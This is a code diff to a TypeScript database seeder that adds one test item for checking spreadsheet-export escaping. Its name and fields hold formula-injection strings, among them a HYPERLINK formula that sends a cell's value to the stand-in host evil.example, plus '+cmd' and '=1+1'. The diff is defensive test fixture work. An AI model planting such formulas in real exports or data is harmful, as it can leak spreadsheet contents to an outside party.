@@ -603,6 +603,28 @@ export function seedBigItem(db: Db, size: number, owner: SandboxIdentity = ALICE
   return id;
 }
 
+/**
+ * One completed alice item whose texts a spreadsheet export must survive: a leading `=` (a formula when opened),
+ * double quotes, commas and line breaks. Seeded with the benchmark/scale extras only, so the default demo data
+ * (and every count other suites rely on) stays as it is.
+ */
+function seedExportEdgeCase(s: Seeder) {
+  const id = s.item({
+    owner: ALICE,
+    requester: REQUESTERS[1],
+    type: 'Approval',
+    state: 'Finished',
+    name: '=HYPERLINK("https://evil.example/?q="&A1,"Payroll, Q3") access',
+    description: 'Line one, with "quotes", and a comma\nline two\n@SUM(1+1)',
+  });
+  s.approval(
+    id,
+    0,
+    { application: 'Workday', account: '+cmd', name: '-memberOf', operation: 'Add', value: '=1+1' },
+    'Finished',
+  );
+}
+
 /** Rows for an owner: pending and completed work items across types, final states and decisions. */
 function seedOwner(s: Seeder, owner: SandboxIdentity, pending: number, completed: number) {
   for (let i = 0; i < pending; i++) {
@@ -678,6 +700,7 @@ export function seed(db: Db, options: SeedOptions = {}): SeedResult {
       s.approvalItem(ALICE, 'Pending', 1 + (i % 3), () => 'Pending');
     }
     seedAccessRequests(db, { now, scale: options.scale });
+    if ((options.scale ?? 0) > 0) seedExportEdgeCase(s);
     setMeta(db, 'seeded_at', new Date(now).toISOString());
   })();
   if (options.bigItemSize && options.bigItemSize > 0) bigItemId = seedBigItem(db, options.bigItemSize);
